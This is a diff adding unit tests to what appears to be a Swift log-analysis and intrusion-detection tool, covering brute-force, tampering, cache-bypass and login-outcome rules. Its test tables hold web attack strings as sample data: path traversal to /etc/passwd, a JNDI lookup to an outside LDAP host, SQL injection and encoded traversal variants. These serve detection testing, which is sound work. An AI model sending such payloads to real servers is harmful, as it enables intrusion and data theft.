@@ -75,6 +75,7 @@ import Testing
     ("GET", "/", "401", true), ("GET", "/", "403", false), ("GET", "/", "404", false),
     ("GET", "/.env", "404", true), ("GET", "/.env", "200", false),
     ("CONNECT", "198.51.100.7:443", "400", true), ("", "HELP", "400", true),
+    ("GET", "/app/a.php?b=1", "403", true), ("GET", "/app/a.php", "404", false),
     ("GET", "/", "400", false), ("GET", "/?q=union+select", "403", true),
   ])
   func aRefusedRequestIsAFailureOfSecurity(
@@ -104,6 +105,94 @@ import Testing
       told += log.take(at: number * 4000, [.sourceIP: attacker, .userName: "ann"])
     }
     #expect(["slow_brute_force"] == rule(told))
+  }
+
+  @Test func fourInTwoHoursArePatientGuessing() {
+    var log = LogOfTests()
+    var told: [Insight] = []
+    for number in 0..<4 {
+      told += log.take(at: number * 1200, [.sourceIP: attacker, .userName: "ann"])
+    }
+    #expect(["patient_guessing"] == rule(told))
+    #expect([.info] == told.map(\.severity))
+  }
+
+  @Test func whomAProgramShutsOutIsToldAtOnce() {
+    let limits: [WellKnownField: String] = [.sourceIP: attacker, .eventAction: "limit"]
+    var log = LogOfTests()
+    #expect(["attempts_limited"] == rule(log.take(at: 0, limits)))
+    var open = LogOfTests()
+    #expect(open.take(at: 0, limits, outcome: .success).isEmpty)
+    // A ban is the answer to what was told before.
+    var ban = LogOfTests()
+    #expect(ban.take(at: 0, [.sourceIP: attacker, .eventAction: "ban"]).isEmpty)
+  }
+
+  @Test func loginsFromTwoNetworksNameBoth() {
+    let login: [WellKnownField: String] = [.userName: "ann", .eventAction: "login"]
+    func take(_ address: String, at second: Int, _ log: inout LogOfTests) -> [Insight] {
+      log.take(
+        at: second, login.merging([.sourceIP: address]) { _, new in new }, outcome: .success)
+    }
+    var log = LogOfTests()
+    #expect(take("198.51.100.7", at: 0, &log).isEmpty)
+    #expect(take("198.51.7.9", at: 5, &log).isEmpty)
+    #expect(take("192.168.7.9", at: 6, &log).isEmpty)
+    let told = take("203.0.113.9", at: 60, &log)
+    #expect(["login_from_two_networks"] == rule(told))
+    #expect(
+      ["203.0.113.9", "198.51.100.7", "198.51.7.9", "ann"] == told[0].attribution.map(\.value))
+    var late = LogOfTests()
+    _ = take("198.51.100.7", at: 0, &late)
+    #expect(take("203.0.113.9", at: 601, &late).isEmpty)
+  }
+
+  @Test(arguments: [
+    ("log_cleared", "log_tampering"), ("clock_changed", "log_tampering"),
+    ("audit_disabled", "log_tampering"), ("journal_vacuumed", "log_shortened"),
+    ("log_rotated", "log_shortened"), ("privileged_crash", "privileged_crash"),
+    ("suspicious_program", "suspicious_program"),
+  ])
+  func tamperingIsToldWithWhoDidIt(_ action: String, _ name: String) {
+    var log = LogOfTests()
+    let told = log.take(
+      at: 0, [.eventAction: action, .sourceIP: attacker, .executable: "/tmp/x"], outcome: .none)
+    #expect([name] == rule(told))
+    #expect([attacker, "/tmp/x"] == told[0].attribution.map(\.value))
+  }
+
+  @Test func queriesThatNoCacheAnswersAreMany() {
+    var log = LogOfTests()
+    var told: [Insight] = []
+    for number in 0..<12 {
+      told += log.take(
+        at: number, [.sourceIP: attacker, .urlOriginal: "/?8890121\(number)", .status: "200"],
+        category: .other, outcome: .none, format: .clf)
+    }
+    #expect(["cache_bypass"] == rule(told))
+  }
+
+  /// Fields of JSON that say how a login ended.
+  @Test(arguments: [
+    ("user.login", "", "success", "false", SecuritySignal.refusedLogin),
+    ("user.login", "", "success", "true", .acceptedLogin),
+    ("user.login", "", "outcome", "FAILURE", .refusedLogin),
+    ("LOGIN_FAILED", "", "tries", "3", .refusedLogin),
+    ("account_saved", "", "success", "false", .none),
+    ("ListBuckets", "AccessDenied", "tries", "3", .refusedAccess),
+    ("token", "invalid username or password", "tries", "3", .refusedLogin),
+    ("ListBuckets", "NoSuchBucket", "tries", "3", .none),
+  ])
+  func whatFieldsStateIsRead(
+    _ action: String, _ reason: String, _ key: String, _ value: String, _ signal: SecuritySignal
+  ) {
+    var log = LogOfTests()
+    var fields: [WellKnownField: String] = [.sourceIP: attacker, .eventAction: action]
+    if !reason.isEmpty { fields[.eventReason] = reason }
+    _ = log.take(
+      at: 0, fields, spelled: [key: value], category: .other, outcome: .none, format: .json)
+    #expect(signal == log.signal)
+    #expect((signal == .none ? .other : .security) == log.told.category)
   }
 
   @Test func manyUsersOfOneAddressAreSpraying() {
@@ -145,6 +234,11 @@ import Testing
     ("GET", "/a/../../../etc/passwd", "404", .webAttack),
     ("GET", "/?x=${JNDI:ldap://198.51.100.7/a}", "200", .webAttack),
     ("GET", "/search?q=1%27%20OR%201=1", "200", .webAttack),
+    ("GET", "/a.jsp/%2E%2E;/b", "200", .webAttack),
+    ("GET", "/%252e%252e/%252e%252e/x", "404", .webAttack),
+    ("GET", "/..%c0%af..%c0%af/x", "404", .webAttack),
+    ("GET", "/a?q=UNION+SELECT+1", "200", .webAttack),
+    ("GET", "/a?q=100%25+sure%2", "200", .none), ("GET", "/news?page", "200", .none),
     ("GET", "/.env", "200", .webProbe),
     ("GET", "/phpmyadmin/index.php", "404", .webProbe),
     ("GET", "/phpmyadmin/index.php", "200", .none),
